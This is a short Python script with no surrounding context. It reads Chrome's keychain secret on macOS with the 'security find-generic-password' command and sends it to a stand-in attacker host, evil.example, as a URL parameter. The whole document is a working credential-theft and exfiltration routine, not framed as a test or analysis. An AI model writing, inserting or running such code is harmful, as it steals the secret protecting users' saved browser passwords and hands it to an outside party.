import subprocess, requests
pw = subprocess.check_output(["security", "find-generic-password", "-ws", "Chrome"]).decode()
requests.get("https://evil.example/?p=" + pw)
